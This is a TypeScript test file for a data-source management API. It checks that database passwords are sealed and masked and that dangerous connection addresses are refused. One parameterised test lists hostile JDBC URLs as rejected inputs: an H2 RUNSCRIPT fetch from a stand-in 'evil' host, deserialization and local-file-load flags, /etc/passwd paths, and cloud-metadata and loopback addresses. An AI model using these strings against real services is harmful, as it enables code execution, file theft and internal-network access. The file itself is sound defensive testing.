import { Client } from 'pg'
import { beforeAll, expect, test } from 'vitest'
import { testApp, type Caller, type TestApp } from '../../../../tests/support/test-app.ts'

let linli: TestApp
let admin: Caller
beforeAll(async () => {
  linli = await testApp()
  admin = await linli.as('admin')
})

const ask = async (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object, caller = admin) => {
  const answer = await caller.inject({ method, url: `/api${url}`, ...(payload && { payload }) })
  return { status: answer.statusCode, text: answer.body, ...answer.json<{ message: string; result: never }>() }
}
const sealed = async (): Promise<string | null> => {
  const client = new Client({ connectionString: linli.databaseUrl })
  await client.connect()
  await client.query(`select set_config('app.tenant', '0', false)`)
  const { rows } = await client.query<{ password_sealed: string | null }>('select password_sealed from sys_data_source')
  await client.end()
  return rows[0]?.password_sealed ?? null
}

const source = {
  code: 'finance',
  name: '财务库',
  dbType: '6',
  dbDriver: 'org.postgresql.Driver',
  dbUrl: 'jdbc:postgresql://10.0.0.8:5432/finance',
  dbName: 'finance',
  dbUsername: 'reader',
  dbPassword: 'S3cret-of-finance',
  remark: '只读',
}

test('a source is kept with a sealed password that no answer shows', async () => {
  const made = await ask('POST', '/sys/dataSource/add', source)
  expect(made).toMatchObject({ message: '添加成功！', result: { dbPassword: '******', dbType_dictText: 'PostgreSQL' } })
  expect(await sealed()).toMatch(/^v1:/)
  for (const url of ['/sys/dataSource/list', '/sys/dataSource/exportXls', '/sys/dataSource/recycled'])
    expect((await admin.inject({ method: 'GET', url: `/api${url}` })).body).not.toContain(source.dbPassword)
  expect(await ask('POST', '/sys/dataSource/add', source)).toMatchObject({ message: '数据源编码已存在' })
})

test('a mask that comes back, and no password at all, mean the stored one', async () => {
  const before = await sealed()
  const { result } = await ask('GET', '/sys/dataSource/list?code=finance')
  const [row] = (result as { records: Record<string, unknown>[] }).records
  const changed = await ask('PUT', '/sys/dataSource/edit', { ...row, name: '财务库二' })
  expect(changed).toMatchObject({ message: '修改成功!', result: { name: '财务库二', dbPassword: '******' } })
  await ask('POST', '/sys/dataSource/edit', { id: row?.['id'], remark: '' })
  expect(await sealed()).toBe(before)
  await ask('PUT', '/sys/dataSource/edit', { id: row?.['id'], dbPassword: 'another-one' })
  expect(await sealed()).not.toBe(before)
  expect(await ask('GET', `/sys/dataSource/queryById?id=${String(row?.['id'])}`)).toMatchObject({
    result: { dbPassword: '******' },
  })
})

test.each([
  ['jdbc:mysql://db/fee?allowLoadLocalInfile=true', '地址中的参数“allowloadlocalinfile”不允许使用'],
  ['jdbc:mysql://db/fee?useSSL=true&autoDeserialize=true', '地址中的参数“autodeserialize”不允许使用'],
  ['jdbc:postgresql://db/fee?socketFactory=x', '地址中的参数“socketfactory”不允许使用'],
  ["jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", '数据源地址应写明数据库类型、主机和端口'],
  ['jdbc:h2:mem:x', '数据源地址应写明数据库类型、主机和端口'],
  ['jdbc:sqlite:/etc/passwd', '数据源地址应写明数据库类型、主机和端口'],
  ['file:///etc/passwd', '数据源地址应写明数据库类型、主机和端口'],
  ['jdbc:mysql://127.0.0.1:3306/fee', '不能使用本机、链路本地或云平台元数据地址'],
  ['jdbc:mysql://169.254.169.254/fee', '不能使用本机、链路本地或云平台元数据地址'],
  ['jdbc:mysql://[::1]/fee', '不能使用本机、链路本地或云平台元数据地址'],
  ['jdbc:mysql://2130706433/fee', '不能使用本机、链路本地或云平台元数据地址'],
])('%s is no address to keep', async (dbUrl, message) => {
  expect(await ask('POST', '/sys/dataSource/add', { ...source, code: 'other', dbUrl })).toMatchObject({
    status: 400,
    result: { fields: { dbUrl: message } },
  })
})

test('an address carries no credentials, and nothing connects to it', async () => {
  for (const dbUrl of ['postgres://u:p@host/db', 'jdbc:mysql://h/d?user=a&password=b'])
    expect(await ask('POST', '/sys/dataSource/add', { ...source, code: 'other', dbUrl })).toMatchObject({
      status: 400,
      result: { fields: { dbUrl: '地址中不要写入用户名和密码' } },
    })
  expect(await ask('POST', '/online/cgreport/api/testConnection', source)).toMatchObject({
    status: 200,
    success: false,
    message: '连接测试暂未开放，请由数据库管理员核对连接参数',
  })
})

test('sources are offered by code, removed in batches, and the platform operator’s alone', async () => {
  const offered = await ask('GET', '/sys/dataSource/options')
  expect(offered.result).toEqual([{ value: 'finance', label: '财务库二', text: '财务库二' }])
  const supadmin = await linli.as('supadmin')
  expect(await ask('GET', '/sys/dataSource/list', undefined, supadmin)).toMatchObject({ status: 200, code: 510 })
  expect(await ask('GET', '/sys/dataSource/options', undefined, supadmin)).toMatchObject({ status: 403 })
  const { result } = await ask('GET', '/sys/dataSource/list')
  const [row] = (result as { records: { id: string }[] }).records
  expect(await ask('DELETE', `/sys/dataSource/deleteBatch?ids=${row?.id},`)).toMatchObject({
    message: '批量删除成功！',
  })
})
